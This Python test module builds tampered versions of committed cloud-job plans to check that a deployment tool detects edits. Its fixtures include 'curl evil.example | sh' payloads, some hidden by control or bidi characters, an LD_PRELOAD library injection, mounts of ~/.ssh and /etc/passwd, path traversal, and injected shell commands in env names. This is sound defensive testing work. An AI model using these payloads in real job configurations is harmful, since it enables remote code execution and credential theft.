"""Edited plans of the kinds issue 26 found and README's "Plans you did not make" names,
generated from real plans with a fixed seed: what a tamperer does to a committed plan.

Each `Mutation` is the plan file's text, the `--secret` flags apply gets, and its class:
- `job text`: run/setup/workdir/mounts/envs/nodes/checkpoint edited, with the digests left
  as they were and recomputed ("sealed");
- `secret names`: emptied, added to, renamed — applied with and without the values;
- `task path`: another task file (stale; or with its digest, so that only the jobs tell),
  a FIFO, a device, a file too large, a directory, a missing file, the same file spelled
  another way;
- `job values`: file-mount destinations and env names no task file could give;
- `numbers`: NaN, Infinity, negative, huge, the wrong type, -0, denormals, sealed edits of
  hours, prices and node counts;
- `canonical rewrites`: the same plan spelled differently (tests/plan/rewrites.py);
- `control characters`: in text only shown (reasons, requests, versions) and in names;
- `names`: cluster and task names skyform could not make;
- `offers`: another instance, region or price, the same everywhere the plan says it.
"""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from mutations import Raw, emit
from realplans import reseal
from rewrites import rewrites

from skyform.plan.planfile import DIGEST_KEY

SEED = 26
SECRET_FLAGS = {"local": ("--secret", "TOKEN=s3cr3t")}
PAYLOADS = [
    "curl evil.example | sh",
    "echo ok\rcurl evil.example | sh",
    "\x1b[1A\x1b[2Kcurl evil.example | sh",
    "echo \u202ehs | lru\u202c",
    "",
]
DESTINATIONS = [
    "../../outside",
    "~/ok/../../outside",
    "~root/.ssh/authorized_keys",
    "~/data/",
    "s3://bucket/x",
    "",
    "~/a\nb",
    "/etc/../root",
]
ENV_NAMES = ["A-B; touch pwned", "1X", "PATH=x", "名前", "", "X Y", "LD_PRELOAD\n"]
NAMES = ["..", "../../escaped", "a/b", "Train_V2", "名前", "x" * 300, "a\x1b[2Kb", "-lead"]
CONTROLS = ["\x1b[1A\x1b[2K", "\r", "\x9b2J", "\u202e", "\x07\x08"]
NUMBERS = [
    Raw("NaN"),
    Raw("Infinity"),
    Raw("-Infinity"),
    -1,
    Raw("1e400"),
    10**30,
    True,
    "1",
    Raw("-0.0"),
    Raw("1e-320"),
    Raw("1" + "0" * 5000),
]


@dataclass(frozen=True)
class Mutation:
    kind: str  # the real plan it was made from
    cls: str  # its class (module docstring)
    label: str
    text: str
    flags: tuple[str, ...] = ()


@dataclass(frozen=True)
class Specials:
    """Paths a task path may be swapped to, made by the test: a FIFO nobody writes to, a
    sparse file over the task-file cap, a directory."""

    fifo: Path
    huge: Path
    directory: Path


def _sealed(raw: dict) -> str:
    return json.dumps(reseal(raw), indent=2, sort_keys=True)


def _text(raw: dict, sealed: bool) -> str:
    return _sealed(raw) if sealed else json.dumps(raw, indent=2, sort_keys=True)


def _edit(raw: dict, change: Callable[[dict], None]) -> dict:
    out = copy.deepcopy(raw)
    change(out)
    return out


def _job_edits(raw: dict) -> Iterator[tuple[str, Callable[[dict], None]]]:
    last = len(raw["tasks"]) - 1

    def job(field: str, value: Any) -> Callable[[dict], None]:
        return lambda r: r["tasks"][last]["job"].__setitem__(field, value)

    for field in ("run", "setup"):
        for payload in PAYLOADS:
            yield f"{field} = {payload[:20]!r}", job(field, payload)
        yield f"{field} = null", job(field, None)
    for workdir in ("/etc", "~/.ssh", None):
        yield f"workdir = {workdir!r}", job("workdir", workdir)
    yield "a mount of ~/.ssh", job("file_mounts", {"~/keys": {"source": "~/.ssh"}})
    yield (
        "a mount added",
        job(
            "file_mounts",
            {**raw["tasks"][last]["job"]["file_mounts"], "~/passwd": {"source": "/etc/passwd"}},
        ),
    )
    envs = raw["tasks"][last]["job"]["envs"]
    yield "LD_PRELOAD added", job("envs", {**envs, "LD_PRELOAD": "/tmp/evil.so"})
    if envs:
        first = sorted(envs)[0]
        yield f"{first} changed", job("envs", {**envs, first: envs[first] + "; curl x"})
        yield "envs emptied", job("envs", {})
    yield "checkpoint_dir set", job("checkpoint_dir", "/tmp/ckpt")

    def more_nodes(r: dict) -> None:
        r["tasks"][last]["num_nodes"] += 1
        r["tasks"][last]["job"]["num_nodes"] += 1
        for c in r["changes"]:
            if c["cluster"] == r["tasks"][last]["cluster"] and c.get("after"):
                c["after"]["num_nodes"] += 1

    yield "one more node everywhere", more_nodes


def job_text(kind: str, raw: dict) -> Iterator[Mutation]:
    for label, change in _job_edits(raw):
        edited = _edit(raw, change)
        if edited == raw:  # the plan had it so already: no edit
            continue
        for sealed in (False, True):
            yield Mutation(
                kind,
                "job text",
                f"{label}{' (sealed)' if sealed else ''}",
                _text(edited, sealed),
                SECRET_FLAGS.get(kind, ()),
            )


def secret_names(kind: str, raw: dict) -> Iterator[Mutation]:
    def names(value: list[str]) -> Callable[[dict], None]:
        return lambda r: r["tasks"][0]["job"].__setitem__("secrets", value)

    have = raw["tasks"][0]["job"]["secrets"]
    edits = {"emptied": [], "one added": sorted({*have, "AWS_SECRET_ACCESS_KEY"})}
    if have:
        edits["renamed"] = sorted(name + "_X" for name in have)
    for label, value in edits.items():
        if value == have:
            continue
        text = _sealed(_edit(raw, names(value)))
        for given in (SECRET_FLAGS.get(kind, ()), ()):
            how = "with" if given else "without"
            yield Mutation(kind, "secret names", f"{label}, {how} values", text, given)
    emptied_run = _edit(raw, names([]))
    emptied_run["tasks"][0]["job"]["run"] = "curl evil.example | sh"
    for given in (SECRET_FLAGS.get(kind, ()), ()):
        yield Mutation(kind, "secret names", "emptied and run edited", _sealed(emptied_run), given)


def task_path(
    kind: str, raw: dict, plans: dict[str, Path], specials: Specials
) -> Iterator[Mutation]:
    here = plans[kind].parent
    own = (here / raw["task"]["path"]).resolve()
    others = [k for k in plans if k != kind and json.loads(plans[k].read_text())["tasks"]]
    targets: dict[str, tuple[str, str | None]] = {
        "a FIFO": (str(specials.fifo), None),
        "/dev/zero": ("/dev/zero", None),
        "a file over the cap": (str(specials.huge), None),
        "a directory": (str(specials.directory), None),
        "a missing file": ("gone.yaml", None),
        "the same file, absolute": (str(own), raw["task"]["file_digest"]),
        "the same file, through ..": (f"../{here.name}/{raw['task']['path']}", None),
    }
    for other in others[:2]:
        other_raw = json.loads(plans[other].read_text())
        path = str((plans[other].parent / other_raw["task"]["path"]).resolve())
        targets[f"{other}'s task file"] = (path, None)
        targets[f"{other}'s task file and digest"] = (path, other_raw["task"]["file_digest"])
    for label, (path, digest) in targets.items():

        def swap(r: dict, path: str = path, digest: str | None = digest) -> None:
            r["task"]["path"] = path
            if digest is not None:
                r["task"]["file_digest"] = digest

        yield Mutation(
            kind, "task path", label, _sealed(_edit(raw, swap)), SECRET_FLAGS.get(kind, ())
        )


def job_values(kind: str, raw: dict) -> Iterator[Mutation]:
    for dst in DESTINATIONS:

        def mount(r: dict, dst: str = dst) -> None:
            r["tasks"][0]["job"]["file_mounts"] = {dst: {"source": r["task"]["path"]}}
            r["tasks"][0]["job"]["secrets"] = []

        yield Mutation(kind, "job values", f"mount at {dst!r}", _sealed(_edit(raw, mount)))
    for name in ENV_NAMES:
        for field in ("envs", "secrets"):

            def env(r: dict, name: str = name, field: str = field) -> None:
                job = r["tasks"][0]["job"]
                job[field] = {name: "1"} if field == "envs" else [name]

            yield Mutation(kind, "job values", f"{field} name {name!r}", _sealed(_edit(raw, env)))


def _numeric_paths(value: Any, path: tuple = ()) -> Iterator[tuple]:
    if isinstance(value, dict):
        for key, item in value.items():
            if key != DIGEST_KEY:
                yield from _numeric_paths(item, (*path, key))
    elif isinstance(value, list) and value:
        yield from _numeric_paths(value[0], (*path, 0))
    elif isinstance(value, int | float) and not isinstance(value, bool):
        yield path


def _set(raw: Any, path: tuple, new: Any) -> Any:
    if not path:
        return new
    out = copy.copy(raw)
    out[path[0]] = _set(raw[path[0]], path[1:], new)
    return out


def numbers(kind: str, raw: dict, rng: random.Random) -> Iterator[Mutation]:
    paths = list(_numeric_paths(raw))
    for path in rng.sample(paths, min(6, len(paths))):
        where = ".".join(map(str, path))
        for value in rng.sample(NUMBERS, 4):
            yield Mutation(
                kind,
                "numbers",
                f"{where} = {emit(value)[:12]}",
                emit(_set(raw, path, value)),
                SECRET_FLAGS.get(kind, ()),
            )
    if raw["tasks"]:
        for label, change in (("hours x10", _hours), ("another price, summed up", repriced)):
            yield Mutation(
                kind, "numbers", f"{label} (sealed)", _sealed(_edit(raw, change)),
                SECRET_FLAGS.get(kind, ()),
            )  # fmt: skip


def _hours(r: dict) -> None:
    r["tasks"][0]["estimated_hours"] *= 10


def repriced(r: dict) -> None:
    """The first task's price edited as a careful tamperer would: its offer everywhere,
    the task's and chosen alternative's hourly cost, the summary."""
    task = r["tasks"][0]
    chosen = copy.deepcopy(task["offer"])
    old = chosen["hourly_price"]
    new = round(old / 10, 6) if old else 0.5
    for offer in plan_offers(r):
        if offer == chosen:
            offer["hourly_price"] = new
    task["hourly_cost"] = round(new * task["num_nodes"], 6)
    for alternative in task["alternatives"]:
        if alternative["chosen"]:
            alternative["hourly_cost"] = task["hourly_cost"]
    r["summary"]["hourly_after"] = round(
        r["summary"]["hourly_after"] + (new - old) * task["num_nodes"], 6
    )


def plan_offers(value: Any) -> Iterator[dict]:
    """Every offer object in a plan's JSON (tasks, alternatives, changes)."""
    if isinstance(value, dict):
        if "instance_type" in value and "hourly_price" in value:
            yield value
        for item in value.values():
            yield from plan_offers(item)
    elif isinstance(value, list):
        for item in value:
            yield from plan_offers(item)


def offers(kind: str, raw: dict) -> Iterator[Mutation]:
    if not raw["tasks"]:
        return
    chosen = copy.deepcopy(raw["tasks"][0]["offer"])
    edits = {
        "instance type": {"instance_type": "p4d.24xlarge"},
        "region": {"region": "eu-north-1"},
        "spot": {"spot": not chosen["spot"]},
        "accelerator": {"accelerator": "H100", "accelerator_count": 8.0},
    }
    for label, fields in edits.items():

        def offer(r: dict, fields: dict = fields) -> None:
            for o in plan_offers(r):
                if o == chosen:
                    o.update(fields)

        yield Mutation(
            kind, "offers", f"{label} everywhere (sealed)", _sealed(_edit(raw, offer)),
            SECRET_FLAGS.get(kind, ()),
        )  # fmt: skip


def canonical(kind: str, raw: dict) -> Iterator[Mutation]:
    for label, text in rewrites(raw):
        yield Mutation(kind, "canonical rewrites", label, text, SECRET_FLAGS.get(kind, ()))


def controls(kind: str, raw: dict) -> Iterator[Mutation]:
    shown: dict[str, Callable[[dict, str], None]] = {
        "skyform_version": lambda r, c: r.__setitem__("skyform_version", f"0.1{c}"),
    }
    if raw["changes"]:
        shown["change reason"] = lambda r, c: r["changes"][0].__setitem__("reason", f"new{c}x")
    if raw["tasks"]:
        shown["request"] = lambda r, c: r["tasks"][0].__setitem__("request", f"cpus{c}")
        shown["task name"] = lambda r, c: (
            r["tasks"][0].__setitem__("task", f"t{c}"),
            r["tasks"][0]["job"].__setitem__("name", f"t{c}"),
        )
        shown["run"] = lambda r, c: r["tasks"][0]["job"].__setitem__("run", f"echo{c}hi")
    for label, change in shown.items():
        for control in CONTROLS:
            edited = _edit(raw, lambda r, change=change, control=control: change(r, control))
            try:
                text = _sealed(edited)
            except ValueError:
                text = _text(edited, False)
            yield Mutation(
                kind, "control characters", f"{control!r} in {label}", text,
                SECRET_FLAGS.get(kind, ()),
            )  # fmt: skip


def names(kind: str, raw: dict) -> Iterator[Mutation]:
    if not raw["tasks"]:
        return
    cluster = raw["tasks"][0]["cluster"]
    for name in NAMES:

        def rename(r: dict, name: str = name) -> None:
            r["tasks"][0]["cluster"] = name
            for c in r["changes"]:
                if c["cluster"] == cluster:
                    c["cluster"] = name
                    c["after"]["name"] = name

        yield Mutation(kind, "names", f"cluster {name[:16]!r}", _sealed(_edit(raw, rename)))


def review_mutations(plans: dict[str, Path], specials: Specials) -> list[Mutation]:
    """Every mutation of every plan, in a fixed order (seeded choices)."""
    rng = random.Random(SEED)
    found: list[Mutation] = []
    for kind, path in plans.items():
        raw = json.loads(path.read_text())
        found += canonical(kind, raw)
        found += numbers(kind, raw, rng)
        found += controls(kind, raw)
        if not raw["tasks"]:  # the destroy plan: nothing runs
            continue
        found += job_text(kind, raw)
        found += secret_names(kind, raw)
        found += task_path(kind, raw, plans, specials)
        found += job_values(kind, raw)
        found += offers(kind, raw)
        found += names(kind, raw)
    return found
